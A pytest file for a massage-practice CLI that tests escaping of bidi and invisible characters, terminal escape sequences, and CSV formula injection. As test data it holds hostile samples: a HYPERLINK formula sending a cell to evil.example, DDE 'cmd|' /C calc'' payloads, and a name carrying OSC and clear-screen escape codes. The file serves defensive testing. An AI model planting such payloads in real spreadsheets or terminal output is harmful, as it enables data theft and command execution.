"""What reaches a terminal or a spreadsheet is safe (SPEC §13, issue 12 item 6).

- Names and short fields refuse bidi overrides and isolates, zero-width and other invisible
  characters in one line naming the field, the escaped value and what is allowed (exit 2,
  nothing written); a ZWNJ/ZWJ that spells a Persian or Indic name is kept.
- Text stored by another tool (rows written here with the sqlite3 module) is shown escaped,
  `<U+202E>`, in plain tables, Rich tables on a terminal, records, Markdown and messages; JSON
  and CSV are exact in a pipe or a file, and escaped on a terminal (JSON as \\u escapes: the same
  data).
- CSV for spreadsheets neutralises formula cells with a leading quote, numbers excepted;
  `export all -f csv` keeps every value exactly and round-trips through `import sessions`.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

from tests.conftest import Cli, count_rows, query

# One of each kind the tool refuses in a name, with why it is dangerous.
INVISIBLE = {
    "\u202e": "right-to-left override: the rest of the line prints backwards",
    "\u202b": "right-to-left embedding",
    "\u2066": "left-to-right isolate",
    "\u2069": "pop directional isolate",
    "\u200f": "right-to-left mark",
    "\u061c": "Arabic letter mark",
    "\u200b": "zero-width space: two names that look the same",
    "\u200c": "zero-width non-joiner between Latin letters",
    "\u200d": "zero-width joiner between Latin letters",
    "\u2060": "word joiner",
    "\u2062": "invisible times",
    "\ufeff": "byte-order mark / zero-width no-break space",
    "\u00ad": "soft hyphen",
    "\U000e0041": "tag character (ASCII smuggling)",
    "\u2028": "line separator",
    "\u3164": "Hangul filler (an 'invisible' letter)",
}

CASE_OPEN = [
    "case", "open", "1", "--payer", "health", "--dx", "M54.2", "--referrer", "Alan, DC",
    "--rx-date", "2026-11-01", "--rx-until", "2026-12-31", "--visits", "5",
]  # fmt: skip

# field name in the message → the command that takes it
FIELDS = {
    "name": lambda v: ["client", "add", v],
    "phone": lambda v: ["client", "add", "Sam Roe", "--phone", v],
    "email": lambda v: ["client", "add", "Sam Roe", "--email", f"sam{v}@example.org"],
    "address": lambda v: ["client", "add", "Sam Roe", "--address", f"1 Main St\nApt {v}2"],
    "payer-name": lambda v: [*CASE_OPEN, "--payer-name", v],
    "policy": lambda v: [*CASE_OPEN, "--policy", v],
    "claim": lambda v: [*CASE_OPEN, "--claim", v],
    "adjuster": lambda v: [*CASE_OPEN, "--adjuster", v],
    "referrer": lambda v: [*CASE_OPEN[:7], "--referrer", v, *CASE_OPEN[9:]],
    "referrer-credentials": lambda v: [*CASE_OPEN, "--referrer-credentials", v],
    "auth-number": lambda v: [*CASE_OPEN, "--auth-number", v],
    "client": lambda v: [
        "session",
        "log",
        v,
        "--pre",
        "5",
        "--post",
        "3",
        "--technique",
        "swedish=30",
        "--region",
        "neck",
    ],
    "practice-name": lambda v: ["profile", "set", "--practice-name", v],
}


def one_line(result) -> str:
    assert "Traceback" not in result.stdout + result.stderr
    line = result.stderr.rstrip("\n")
    assert "\n" not in line, result.stderr
    return line


@pytest.mark.parametrize("field", FIELDS)
def test_every_invisible_character_is_refused_in_short_fields(practice, db_path, field):
    before = count_rows(db_path)
    for char, why in INVISIBLE.items():
        value = f"Ab{char}cd"
        result = practice(*FIELDS[field](value), ok=False)
        line = one_line(result)
        assert result.exit_code == 2, (field, why, line)
        assert line.startswith(f"error: {field}: "), line
        code = f"U+{ord(char):04X}"
        assert f"invisible character {code}" in line, (why, line)
        assert "take visible letters (any script), digits, spaces and punctuation" in line
        assert char not in result.stderr, f"raw {why} in the message"
        assert count_rows(db_path) == before, (field, why)


def test_the_message_shows_the_value_escaped_and_names_the_character(practice):
    result = practice("client", "add", "Ann\u202eLee", ok=False)
    assert one_line(result) == (
        "error: name: 'Ann\\u202eLee' — invisible character U+202E RIGHT-TO-LEFT OVERRIDE at "
        "character 4: names, numbers and other short fields take visible letters (any script), "
        "digits, spaces and punctuation"
    )


def test_client_edit_and_case_edit_refuse_them_too(practice, db_path):
    jane = query(db_path, "SELECT * FROM client WHERE id = 1")[0]
    case = query(db_path, "SELECT * FROM care_case WHERE id = 1")[0]
    for args in (
        ["client", "edit", "1", "--name", "Jane\u200bDoe"],
        ["client", "edit", "1", "--phone", "\u2066360-555-0100"],
        ["case", "edit", "1", "--claim", "CLM\u00ad1"],
        ["case", "edit", "1", "--payer-name", "Reg\u202eence"],
    ):
        result = practice(*args, ok=False)
        assert result.exit_code == 2, args
        assert "invisible character U+" in one_line(result)
    assert query(db_path, "SELECT * FROM client WHERE id = 1")[0] == jane
    assert query(db_path, "SELECT * FROM care_case WHERE id = 1")[0] == case


# Names whose joiners are spelling: Persian (ZWNJ between Arabic letters), Sinhala "Sri"
# (ZWJ after the virama), Malayalam with an old-style chillu at the end (virama + ZWJ).
SPELT_WITH_JOINERS = [
    "\u0645\u0647\u062f\u06cc\u200c\u0632\u0627\u062f\u0647",
    "\u0dc1\u0dca\u200d\u0dbb\u0dd3 Perera",
    "\u0d05\u0d30\u0d4d\u0d1c\u0d41\u0d28\u0d4d\u200d",
]


def test_joiners_that_spell_a_name_are_kept_and_shown_as_they_are(practice, db_path):
    for name in SPELT_WITH_JOINERS:
        practice("client", "add", name)
    stored = [r[0] for r in query(db_path, "SELECT name FROM client WHERE id > 1 ORDER BY id")]
    assert stored == SPELT_WITH_JOINERS
    shown = practice("client", "list").stdout
    for name in SPELT_WITH_JOINERS:
        assert name in shown
    assert "<U+" not in shown


def test_import_refuses_them_in_the_client_column(practice, db_path, tmp_path):
    before = count_rows(db_path)
    header = "client,date,pre,post,techniques,regions\n"
    for cell, options in (("Jane\u202eDoe", ()), ("Zed\u200bZulu", ("--create-clients",))):
        path = tmp_path / "import.csv"
        path.write_text(f"{header}{cell},2026-11-20,6,3,swedish=30,neck\n", encoding="utf-8")
        result = practice("import", "sessions", str(path), *options, ok=False)
        line = one_line(result)
        assert result.exit_code == 2, line
        assert line.startswith("error: line 2: client: "), line
        assert "invisible character U+" in line
        assert count_rows(db_path) == before


def test_notes_keep_invisible_characters_exactly_and_show_them_escaped(practice, db_path):
    note = "Pasted: tender\u00ad C5, \u202bright side\u202c, word\u200bbreak"
    practice("session", "log", "Jane", "--pre", "6", "--post", "3", "--technique", "swedish=30",
             "--region", "neck", "--subjective", note)  # fmt: skip
    assert query(db_path, "SELECT subjective FROM session")[0][0] == note
    shown = practice("session", "show", "1").stdout
    assert "tender<U+00AD> C5, <U+202B>right side<U+202C>, word<U+200B>break" in shown
    assert not any(ch in shown for ch in "\u00ad\u202b\u202c\u200b")
    data = practice("session", "show", "1", "-f", "json").stdout
    assert json.loads(data)["subjective"] == note  # JSON to a pipe: the data, exactly


# --- text written by another tool ------------------------------------------------------------

HOSTILE_NAME = "Evil\u202eeeL\x1b]0;pwned\x07\x1b[2J\u2066x\u2069"


def plant(db: Path, sql: str, params: tuple) -> None:
    """Write with the sqlite3 module, as another tool would (no medmassage code)."""
    conn = sqlite3.connect(db)
    try:
        conn.execute(sql, params)
        conn.commit()
    finally:
        conn.close()


def assert_nothing_raw(text: str) -> None:
    raw = [f"U+{ord(c):04X}" for c in text if c in "\u202e\u2066\u2069\x1b\x07"]
    assert raw == [], raw


@pytest.fixture
def planted(practice, db_path):
    """Jane's name, her payer's name and a second client inserted as another tool would."""
    plant(db_path, "UPDATE client SET name = ? WHERE id = 1", (HOSTILE_NAME,))
    plant(db_path, "UPDATE care_case SET payer_name = ? WHERE id = 1", ("Reg\u202eecne",))
    plant(
        db_path,
        "INSERT INTO client (name, phone, status, created) VALUES (?, ?, 'active', ?)",
        ("Tab\tBell\x07", "\u200b555", "2026-11-01T09:00:00"),
    )
    practice("session", "log", "1", "--pre", "6", "--post", "3", "--technique", "swedish=30",
             "--region", "neck", "--date", "2026-11-20")  # fmt: skip
    return practice


ESCAPED_NAME = "Evil<U+202E>eeL<U+001B>]0;pwned<U+0007><U+001B>[2J<U+2066>x<U+2069>"


def test_plain_client_list_escapes_what_another_tool_stored(planted):
    out = planted("client", "list").stdout
    assert_nothing_raw(out)
    assert ESCAPED_NAME in out
    assert "<U+200B>555" in out and "Bell<U+0007>" in out
    # The escapes are plain ASCII: the columns still line up.
    lines = out.splitlines()
    header = next(ln for ln in lines if ln.startswith("ID"))
    assert all(len(ln) <= len(header) + 40 for ln in lines[1:]), out


@pytest.mark.parametrize(
    "args",
    [
        ("client", "show", "1"),
        ("client", "list", "-f", "md"),
        ("case", "list"),
        ("case", "show", "1"),
        ("session", "list"),
        ("session", "show", "1"),
        ("progress", "1"),
        ("progress", "1", "-f", "md"),
        ("summary", "1", "-f", "md"),
        ("report", "due", "-f", "table"),
    ],
    ids=lambda a: " ".join(a),
)
def test_every_view_of_stored_text_escapes_it(planted, args):
    result = planted(*args)
    assert_nothing_raw(result.stdout + result.stderr)
    if args[0] in ("client", "case", "session", "summary") and "list" not in args[1:2]:
        assert "U+202E" in result.stdout, result.stdout  # Markdown writes \<U+202E\>


def test_json_is_exact_and_on_a_terminal_written_with_escapes(planted, db_path, sh):
    piped = planted("client", "list", "-f", "json").stdout
    assert json.loads(piped)[0]["name"] == HOSTILE_NAME  # a script gets the data as stored
    env = {**os.environ, "FORCE_COLOR": "1"}
    for args, pick in (
        (("client", "list", "-f", "json"), lambda d: d[0]["name"]),
        (("client", "show", "1", "-f", "json"), lambda d: d["name"]),
        (("progress", "1", "-f", "json"), lambda d: d["client"]["name"]),
        (("summary", "1", "-f", "json"), lambda d: d["client"]["name"]),
    ):
        done = sh("--db", str(db_path), *args, env=env)
        assert done.returncode == 0, done.stderr
        assert_nothing_raw(done.stdout)
        assert "\\u202e" in done.stdout, args
        assert pick(json.loads(done.stdout)) == HOSTILE_NAME, args  # the same data


def test_messages_escape_a_stored_name(planted):
    result = planted(
        "case", "open", "1", "--payer", "self-pay", "--dx", "M54.2", "--referrer", "Dr Who",
        "--rx-date", "2026-11-01", "--rx-until", "2026-12-31", "--visits", "5",
    )  # fmt: skip
    assert_nothing_raw(result.stderr)
    assert f"Opened case 2 for {ESCAPED_NAME}" in result.stderr
    logged = planted("session", "log", "1", "--case", "1", "--pre", "6", "--post", "3",
                     "--technique", "swedish=30", "--region", "neck")  # fmt: skip
    assert_nothing_raw(logged.stdout)
    assert f"Session 2 saved: {ESCAPED_NAME}, case 1" in logged.stdout


def test_a_usage_error_does_not_echo_a_raw_override(practice, db_path, sh):
    done = sh("--db", str(db_path), "client", "list", "extra\u202eword")
    assert done.returncode == 2
    assert "\u202e" not in done.stderr
    assert "extra<U+202E>word" in done.stderr


# Rich's own styles (SGR); a planted "\x1b[2J" or "\x1b]0;…" is not one of them.
SGR = re.compile(r"\x1b\[[0-9;]*m")


def test_on_a_forced_terminal_rich_tables_escape_it(planted, db_path, sh):
    env = {**os.environ, "FORCE_COLOR": "1", "COLUMNS": "160"}
    env.pop("NO_COLOR", None)
    for args in (("client", "list"), ("client", "show", "1"), ("progress", "1")):
        done = sh("--db", str(db_path), *args, env=env)
        assert done.returncode == 0, done.stderr
        assert SGR.search(done.stdout), "not drawn by Rich"
        assert_nothing_raw(SGR.sub("", done.stdout))
        assert "<U+202E>" in done.stdout, args


@pytest.mark.skipif(os.name != "posix", reason="pseudo-terminals need POSIX")
def test_client_list_on_a_real_terminal_shows_escapes(planted, db_path):
    from tests.test_terminal import Terminal, terminal_env

    term = Terminal(["--db", str(db_path), "client", "list"], terminal_env(), columns=160)
    assert term.finish() == 0, term.text
    raw = term.buffer.decode("utf-8", errors="replace")
    assert "\u202e" not in raw and "\u2066" not in raw and "\x07" not in raw
    assert "]0;pwned" not in raw.replace("<U+001B>]0;pwned", "")  # no OSC title sequence
    assert "Evil<U+202E>eeL" in term.text
    assert "│" in term.text  # a Rich table, not the plain one


def test_csv_on_a_terminal_is_escaped_but_exact_in_a_file(planted, tmp_path, sh, db_path):
    env = {**os.environ, "FORCE_COLOR": "1"}
    on_screen = sh("--db", str(db_path), "client", "list", "-f", "csv", env=env)
    assert_nothing_raw(on_screen.stdout)
    planted("client", "list", "-o", str(tmp_path / "clients.csv"))
    with open(tmp_path / "clients.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["name"] == HOSTILE_NAME


def test_the_escape_check_knows_every_format_character_of_this_python():
    from medmassage.rules.textsafety import _regex

    invisible = _regex("invisible")
    missing = [
        f"U+{c:04X}"
        for c in range(sys.maxunicode + 1)
        if unicodedata.category(chr(c)) in ("Cf", "Zl", "Zp") and not invisible.match(chr(c))
    ]
    assert missing == []


def test_ascii_output_never_compiles_the_long_patterns(tmp_path):
    """The fast path: printable ASCII is recognised by str.isprintable(), in C."""
    code = (
        "from medmassage.cli.render import Col, plain_table, print_rows\n"
        "from medmassage.rules import textsafety\n"
        "rows = [{'id': i, 'name': f'Client {i}'} for i in range(2000)]\n"
        "plain_table([Col('id', 'ID', right=True), Col('name', 'Name')], rows)\n"
        "print(sorted(textsafety._COMPILED))\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


# --- CSV for spreadsheets --------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_listings_neutralise_formula_cells(practice, db_path, tmp_path):
    for name in FORMULAS:
        practice("client", "add", "--", name)  # clients 2 to 5
    # tab and carriage return cannot be typed into a name: another tool stores them
    plant(db_path, "UPDATE client SET phone = ? WHERE id = 2", ("\t=1+1",))
    plant(db_path, "UPDATE client SET phone = ? WHERE id = 3", ("\r=1+1",))
    rows = read_csv(practice("client", "list", "-f", "csv").stdout)
    names = {r["id"]: r["name"] for r in rows}
    assert [names[str(i)] for i in range(2, 6)] == ["'" + f for f in FORMULAS]
    assert names["1"] == "Jane Doe"
    phones = {r["id"]: r["phone"] for r in rows}
    # (a carriage return becomes a line break: left raw, the csv module would not quote it)
    assert phones["2"] == "'\t=1+1" and phones["3"] == "'\n=1+1"
    assert phones["1"] == "360-555-0100"  # a phone that starts with a digit is left alone
    # the same through -o FILE; JSON carries the value as stored
    practice("client", "list", "-o", str(tmp_path / "c.csv"))
    with open(tmp_path / "c.csv", encoding="utf-8", newline="") as f:
        in_file = {r["id"]: r["name"] for r in csv.DictReader(f)}
    assert in_file == names
    as_json = {
        c["id"]: c["name"] for c in json.loads(practice("client", "list", "-f", "json").stdout)
    }
    assert [as_json[i] for i in range(2, 6)] == FORMULAS


def test_csv_leaves_numbers_alone_negative_ones_included(practice, db_path):
    # pain higher after the visit: relief -2, a number, not a formula
    practice("session", "log", "Jane", "--pre", "3", "--post", "5", "--technique",
             "swedish=30", "--region", "neck", "--subjective=-worse after, =odd")  # fmt: skip
    rows = read_csv(practice("progress", "Jane", "-f", "csv").stdout)
    assert rows[0]["relief"] == "-2"
    assert rows[0]["pain_pre"] == "3"
    sessions = read_csv(practice("session", "list", "-f", "csv").stdout)
    assert sessions[0]["client"] == "Jane Doe"


def test_a_plain_number_in_text_is_not_a_formula():
    from medmassage.cli.render import spreadsheet_cell

    assert spreadsheet_cell("-12.50") == "-12.50"
    assert spreadsheet_cell("+3") == "+3"
    assert spreadsheet_cell("-3") == "-3"
    assert spreadsheet_cell("-3-1") == "'-3-1"
    assert spreadsheet_cell("-") == "'-"
    assert spreadsheet_cell("+1 555 0100") == "'+1 555 0100"
    assert spreadsheet_cell("") == ""
    assert spreadsheet_cell("a=1") == "a=1"


def test_case_list_csv_neutralises_a_payer_name_stored_by_another_tool(practice, db_path):
    plant(db_path, "UPDATE care_case SET payer_name = ? WHERE id = 1", ("=EVIL()",))
    practice("session", "log", "Jane", "--pre", "6", "--post", "3", "--technique", "swedish=30",
             "--region", "neck", "--date", "2026-11-20")  # fmt: skip
    text = practice("case", "list", "-f", "csv").stdout
    assert read_csv(text)[0]["payer_name"] == "'=EVIL()"


def test_export_all_csv_keeps_values_exactly_and_round_trips(practice, db_path, tmp_path):
    """A backup, not a spreadsheet: no quote is added, so `import sessions` takes the notes
    back exactly (README: open these files with care)."""
    note = "-3 since last visit; =better"
    practice("client", "add", "=Odd Name")
    practice("session", "log", "Jane", "--pre", "6", "--post", "3", "--technique", "swedish=30",
             "--region", "neck", "--date", "2026-11-20", "--subjective", note)  # fmt: skip
    out = tmp_path / "export"
    practice("export", "all", "-f", "csv", "-o", str(out))
    with open(out / "client.csv", encoding="utf-8", newline="") as f:
        assert "=Odd Name" in [r["name"] for r in csv.DictReader(f)]
    with open(out / "sessions-import.csv", encoding="utf-8", newline="") as f:
        [row] = list(csv.DictReader(f))
    assert row["subjective"] == note

    fresh = Cli(tmp_path / "fresh" / "practice.db")
    fresh("client", "add", "Jane Doe")
    fresh("case", "open", "Jane", "--payer", "health", "--dx", "M54.2", "--referrer", "Dr A",
          "--rx-date", "2026-11-01", "--rx-until", "2026-12-31", "--visits", "12")  # fmt: skip
    fresh("import", "sessions", str(out / "sessions-import.csv"))
    assert query(fresh.db, "SELECT subjective FROM session")[0][0] == note
